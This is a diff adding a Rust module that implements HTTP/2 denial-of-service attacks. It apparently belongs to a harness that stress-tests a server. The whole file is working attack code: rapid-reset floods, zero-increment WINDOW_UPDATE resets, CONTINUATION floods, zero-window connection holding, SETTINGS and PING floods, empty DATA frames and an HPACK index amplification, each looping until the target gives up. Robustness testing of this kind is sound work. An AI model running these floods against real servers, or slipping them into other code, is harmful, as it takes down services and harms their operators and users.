@@ -1,0 +1,153 @@
+//! Attacks by frames of HTTP/2.
+
+use std::net::TcpStream;
+use std::thread;
+use std::time::Duration;
+
+use super::Target;
+use crate::support::frames::{ACK, END_HEADERS, END_STREAM, Frames, kind};
+
+/// How long a server may leave our frames unread before we give that connection up.
+const PATIENCE: Duration = Duration::from_millis(200);
+
+/// Opens connection after connection, and has `send` send frames on each until the server has enough of it.
+fn flood(
+    target: &Target,
+    send: impl Fn(&mut Frames<TcpStream>, u32) -> std::io::Result<()>,
+) -> Vec<TcpStream> {
+    let mut held = Vec::new();
+    let mut number = 0;
+    while target.goes_on() {
+        number += 1;
+        let Ok(connection) = target.connect(number % target.crowd) else {
+            continue;
+        };
+        let _limit = connection.set_write_timeout(Some(PATIENCE));
+        let Ok(kept) = connection.try_clone() else {
+            continue;
+        };
+        if let Ok(mut frames) = Frames::try_over(connection, "a".to_owned(), &[]) {
+            let mut round = 0;
+            while target.goes_on() && send(&mut frames, round).is_ok() {
+                round += 1;
+            }
+        }
+        held.push(kept);
+        if held.len() >= target.crowd / 10 {
+            held.clear();
+        }
+    }
+    held
+}
+
+/// The stream of round `round`.
+fn stream(round: u32) -> u32 {
+    1 + 2 * round
+}
+
+pub(super) fn rapid_reset(target: &Target) -> Vec<TcpStream> {
+    flood(target, |frames, round| {
+        let block = frames.get_block("/reviews.json");
+        let cancel = 8_u32.to_be_bytes();
+        frames.try_send(
+            kind::HEADERS,
+            END_HEADERS | END_STREAM,
+            stream(round),
+            &block,
+        )?;
+        frames.try_send(kind::RST_STREAM, 0, stream(round), &cancel)
+    })
+}
+
+/// A window that grows by nothing is an error of its stream (RFC 9113 §6.9), which the server has to reset.
+pub(super) fn made_resets(target: &Target) -> Vec<TcpStream> {
+    flood(target, |frames, round| {
+        let block = frames.get_block("/reviews.json");
+        frames.try_send(kind::HEADERS, END_HEADERS, stream(round), &block)?;
+        frames.try_send(kind::WINDOW_UPDATE, 0, stream(round), &0_u32.to_be_bytes())
+    })
+}
+
+pub(super) fn continuation(target: &Target) -> Vec<TcpStream> {
+    // A literal field that no table keeps, again and again.
+    let filler = [&[0x00, 0x01, b'x', 0x7f, 0x81, 0x1f][..], &[b'y'; 4_096]].concat();
+    flood(target, |frames, round| match round {
+        0 => {
+            let block = frames.get_block("/healthz");
+            frames.try_send(kind::HEADERS, END_STREAM, 1, &block)
+        }
+        _ => frames.try_send(kind::CONTINUATION, 0, 1, &filler),
+    })
+}
+
+/// Half of a crowd that asks for much and never opens a window.
+pub(super) fn shut_windows(target: &Target) -> Vec<TcpStream> {
+    let mut held = Vec::new();
+    for number in 0..target.crowd / 2 {
+        let Ok(connection) = target.connect(number) else {
+            continue;
+        };
+        let Ok(kept) = connection.try_clone() else {
+            continue;
+        };
+        let initial_window_size = 4;
+        if let Ok(mut frames) =
+            Frames::try_over(connection, "a".to_owned(), &[(initial_window_size, 0)])
+        {
+            let block = frames.get_block("/reviews.json");
+            for round in 0..4 {
+                let _ended = frames.try_send(
+                    kind::HEADERS,
+                    END_HEADERS | END_STREAM,
+                    stream(round),
+                    &block,
+                );
+            }
+        }
+        held.push(kept);
+    }
+    while target.goes_on() {
+        thread::sleep(Duration::from_millis(50));
+    }
+    held
+}
+
+pub(super) fn settings(target: &Target) -> Vec<TcpStream> {
+    let table_size = [&1_u16.to_be_bytes()[..], &4_096_u32.to_be_bytes()].concat();
+    flood(target, |frames, _| {
+        frames.try_send(kind::SETTINGS, 0, 0, &table_size)
+    })
+}
+
+pub(super) fn pings(target: &Target) -> Vec<TcpStream> {
+    flood(target, |frames, _| {
+        frames.try_send(kind::PING, 0, 0, &[0; 8])
+    })
+}
+
+pub(super) fn empty_data(target: &Target) -> Vec<TcpStream> {
+    flood(target, |frames, round| match round {
+        0 => {
+            let block = frames.post_block("/mcp");
+            frames.try_send(kind::HEADERS, END_HEADERS, 1, &block)
+        }
+        _ => frames.try_send(kind::DATA, 0, 1, &[]),
+    })
+}
+
+/// One entry of 4,000 bytes in the table, and then a thousand indices of it, a byte each (RFC 7541 §6.1).
+pub(super) fn unpacking(target: &Target) -> Vec<TcpStream> {
+    flood(target, |frames, round| {
+        let mut block = frames.get_block("/healthz");
+        block.extend([0x40, 0x01, b'x', 0x7f, 0xa1, 0x1e]);
+        block.extend([b'y'; 4_000]);
+        block.extend([0xbe; 1_000]);
+        frames.try_send(
+            kind::HEADERS,
+            END_HEADERS | END_STREAM,
+            stream(round),
+            &block,
+        )?;
+        frames.try_send(kind::SETTINGS, ACK, 0, &[])
+    })
+}
